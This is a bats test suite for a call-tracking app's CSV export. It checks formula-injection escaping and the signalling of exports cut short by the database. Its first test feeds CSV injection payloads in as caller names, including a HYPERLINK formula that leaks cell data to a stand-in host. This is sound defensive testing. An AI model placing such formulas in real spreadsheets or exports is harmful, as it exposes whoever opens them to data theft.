#!/usr/bin/env bats
# The CSV export: cells a spreadsheet cannot run as formulas, whoever
# chose the caller's name, and an export cut short by the database that
# cannot pass for a complete one (over FastCGI behind nginx, and as plain
# CGI).

load helpers

setup_file() {
	make_fixture_org
	# A second org with enough calls that their CSV (several MB) cannot
	# sit in the socket buffers between PostgreSQL and the program.
	ORG2=$("$CALLTRACK_ADMIN" org create "CSV volume $SUF")
	TOKEN2=$("$CALLTRACK_ADMIN" token create "$ORG2" --label bats)
	"$CALLTRACK_ROOT/tools/gen-calls" "$ORG2" 30000 >/dev/null
	export ORG2 TOKEN2
}

teardown() {
	# A test that stopped a process lets it go on, and ends what it began.
	[ -z "${STOPPED:-}" ] || kill -CONT "$STOPPED" 2>/dev/null || true
	[ -z "${LOCKER:-}" ] || kill "$LOCKER" 2>/dev/null || true
	# The lock's backend sleeps on after its client is gone: end it, or
	# the suites after this one wait on calls for a minute.
	psql -X -q -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity
	    WHERE application_name = 'csv-cut-lock'" >/dev/null 2>&1 || true
	[ -z "${CLIENT:-}" ] || kill "$CLIENT" 2>/dev/null || true
}

T=$CALLTRACK_FIXTURES/twilio

# An inbound Twilio call from FROM (digits after +1415555) with
# CallerName NAME, signed and sent.
twilio_named() {	# SID FROM NAME
	local f=$BATS_TEST_TMPDIR/$1.form enc
	enc=$(/usr/bin/python3 -c 'import sys, urllib.parse; print(urllib.parse.quote_plus(sys.argv[1]))' "$3")
	sed -e "s/CallSid=CA[0-9a-f]\{32\}/CallSid=$1/" \
	    -e "s/From=%2B14155550131/From=%2B1415555$2/; s/Caller=%2B14155550131/Caller=%2B1415555$2/" \
	    -e "s/&FromState=CA/\&FromState=CA\&CallerName=$enc/" "$T/inbound-completed.form" >"$f"
	req POST "/hooks/twilio/twilio-$SUF" -H 'Content-Type: application/x-www-form-urlencoded' \
	    -H "$(twilio_sig "$f" "$TWILIO_PUBLIC_URL")" --data-binary @"$f"
	expect 200
}

# Prints the first row of SQL's answer once it has one (at most 10 s).
wait_for() {	# SQL
	local out i
	for i in $(seq 200); do
		out=$(psql -X -At -c "$1")
		[ -z "$out" ] || { head -n1 <<<"$out"; return 0; }
		sleep 0.05
	done
	echo "never: $1" >&2
	return 1
}

# Holds calls locked (ACCESS EXCLUSIVE) in a session of its own, so that
# an export's query waits where the test can find it; sets LOCKER and
# LOCK_PID (the session's backend).
lock_calls() {
	psql -X -q -c "SET application_name = 'csv-cut-lock'" -c "BEGIN" \
	    -c "LOCK TABLE calls IN ACCESS EXCLUSIVE MODE" -c "SELECT pg_sleep(60)" \
	    >/dev/null 2>&1 3>&- &
	LOCKER=$!
	LOCK_PID=$(wait_for "SELECT l.pid FROM pg_locks l JOIN pg_stat_activity a USING (pid)
	    WHERE a.application_name = 'csv-cut-lock' AND l.granted AND l.mode = 'AccessExclusiveLock'
	      AND l.relation = 'calls'::regclass")
}

# The export's query waits for the lock: stop the process that runs it
# (PROGRAM, or the worker named in application_name), let the query run,
# and once PostgreSQL is blocked sending rows nobody reads, end its
# backend.  The process then reads what was sent, and the error after it.
cut_export() {	# APPLICATION-NAME-PATTERN [PID]
	local row backend app
	row=$(wait_for "SELECT pid || ' ' || application_name FROM pg_stat_activity
	    WHERE application_name LIKE '$1' AND query LIKE '%ct_calls_csv%' AND wait_event_type = 'Lock'")
	backend=${row%% *}
	app=${row#* }
	STOPPED=${2:-$(sed -E 's/^.*\[([0-9]+)\]$/\1/' <<<"$app")}
	kill -STOP "$STOPPED"
	psql -X -q -c "SELECT pg_terminate_backend($LOCK_PID)" >/dev/null
	wait_for "SELECT 1 FROM pg_stat_activity WHERE pid = $backend AND wait_event = 'ClientWrite'" >/dev/null
	psql -X -q -c "SELECT pg_terminate_backend($backend)" >/dev/null
	kill -CONT "$STOPPED"
	STOPPED=
}

@test "CSV: a cell that starts like a formula is quoted text; numbers and phone numbers stay" {
	twilio_named CAcsv1 0201 '=HYPERLINK("http://x.example/?"&A1,"open")'
	twilio_named CAcsv2 0202 '+SUM(A1:A9)'
	twilio_named CAcsv3 0203 '-2+3'
	twilio_named CAcsv4 0204 '@SUM(A1)'
	twilio_named CAcsv5 0205 $'\t=1+1'
	twilio_named CAcsv6 0206 $'\r=1+1'
	twilio_named CAcsv7 0207 '-3.5'
	req GET "/api/calls?format=csv" -H "Authorization: Bearer $TOKEN"
	expect 200
	[[ "$BODY" == *",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",contact,+14155550201,"* ]]
	[[ "$BODY" == *",\"'+SUM(A1:A9)\",contact,+14155550202,"* ]]
	[[ "$BODY" == *",\"'-2+3\",contact,+14155550203,"* ]]
	[[ "$BODY" == *",\"'@SUM(A1)\",contact,+14155550204,"* ]]
	[[ "$BODY" == *$',"\'\t=1+1",contact,+14155550205,'* ]]
	[[ "$BODY" == *$',"\'\r=1+1",contact,+14155550206,'* ]]
	# A negative number and the phone numbers are no formulas.
	[[ "$BODY" == *",-3.5,contact,+14155550207,"* ]]
	# Seven rows, and no cell in them starts with = or @.
	[ "$(grep -c '^[0-9a-f]\{8\}-' <<<"$BODY")" = 7 ]
	! grep -qE '(^|,)[=@]' <<<"$BODY"
}

@test "CSV: a complete export ends with a line break" {
	local out=$BATS_TEST_TMPDIR/full.csv
	curl -sS -o "$out" -H "Authorization: Bearer $TOKEN2" "$CALLTRACK_URL/api/calls?format=csv&include_test=true"
	[ "$(tail -c 2 "$out" | od -An -c | tr -d ' ')" = '\r\n' ]
	[ "$(grep -c '^[0-9a-f]\{8\}-' "$out")" = 30000 ]
}

@test "CSV: cut short by the database, the transfer ends incomplete (curl 18) and the log says so" {
	local out=$BATS_TEST_TMPDIR/cut.csv rc=0 rows
	lock_calls
	curl -sS -o "$out" -H "Authorization: Bearer $TOKEN2" \
	    "$CALLTRACK_URL/api/calls?format=csv&include_test=true" 2>"$BATS_TEST_TMPDIR/curl.err" 3>&- &
	CLIENT=$!
	cut_export 'dashboard-calls[%'
	wait "$CLIENT" || rc=$?
	CLIENT=
	cat "$BATS_TEST_TMPDIR/curl.err"
	[ "$rc" = 18 ]
	# Rows went out before the cut: the status was 200, the header first.
	[ "$(head -n1 "$out" | tr -d '\r')" = "id,call_at,provider,direction,status,caller_name,name_source,phone_number,duration_seconds,cost,booking_status,sentiment,end_call_reason,ended_reason,is_test_call,summary" ]
	rows=$(grep -c '^[0-9a-f]\{8\}-' "$out" || true)
	[ "$rows" -lt 30000 ]
	grep -q 'csv export stopped after [0-9]* rows by a database error' "$CALLTRACK_STACK/log/dashboard-calls.log"
	grep 'csv export stopped' "$CALLTRACK_STACK/log/dashboard-calls.log" | grep -q 'code=unavailable'
	# The program's next export is whole again.
	req GET "/api/calls?format=csv&limit=1" -H "Authorization: Bearer $TOKEN"
	expect 200
}

@test "CSV: a query that fails before its first row is a 503, not an empty export" {
	local out=$BATS_TEST_TMPDIR/early.json code=$BATS_TEST_TMPDIR/early.code backend
	lock_calls
	curl -sS -o "$out" -w '%{http_code}' -H "Authorization: Bearer $TOKEN2" \
	    "$CALLTRACK_URL/api/calls?format=csv&include_test=true" >"$code" 3>&- &
	CLIENT=$!
	backend=$(wait_for "SELECT pid FROM pg_stat_activity WHERE application_name LIKE 'dashboard-calls[%'
	    AND query LIKE '%ct_calls_csv%' AND wait_event_type = 'Lock'")
	psql -X -q -c "SELECT pg_terminate_backend($backend)" >/dev/null
	psql -X -q -c "SELECT pg_terminate_backend($LOCK_PID)" >/dev/null
	wait "$CLIENT"
	CLIENT=
	[ "$(cat "$code")" = 503 ]
	[ "$(jq -r .error.code "$out")" = unavailable ]
}

@test "CSV as plain CGI: cut short, the body does not end as a complete one does" {
	local out=$BATS_TEST_TMPDIR/cgi.csv log=$BATS_TEST_TMPDIR/cgi.log pid rc=0
	lock_calls
	env -i PATH="$PATH" CALLTRACK_DB="host=$PGHOST dbname=calltrack user=calltrack_dashboard" \
	    GATEWAY_INTERFACE=CGI/1.1 REQUEST_METHOD=GET SERVER_PROTOCOL=HTTP/1.1 \
	    SCRIPT_NAME=/cgi-bin/dashboard-calls PATH_INFO=/api/calls \
	    REQUEST_URI="/api/calls?format=csv&include_test=true" QUERY_STRING="format=csv&include_test=true" \
	    HTTP_AUTHORIZATION="Bearer $TOKEN2" \
	    "$CALLTRACK_BUILD/cgi-bin/dashboard-calls" >"$out" 2>"$log" </dev/null 3>&- &
	pid=$!
	CLIENT=$pid
	cut_export 'dashboard-calls[%' "$pid"
	wait "$pid" || rc=$?
	CLIENT=
	[ "$rc" = 0 ]
	[[ "$(head -n1 "$out")" == "Status: 200 OK"* ]]
	grep -q '^id,call_at,provider,' "$out"
	[ "$(grep -c '^[0-9a-f]\{8\}-' "$out")" -lt 30000 ]
	# Every row of a complete export ends with a line break; this one's
	# last does not.
	[ "$(tail -c 2 "$out" | od -An -c | tr -d ' ')" != '\r\n' ]
	grep -q 'csv export stopped after [0-9]* rows by a database error' "$log"
}
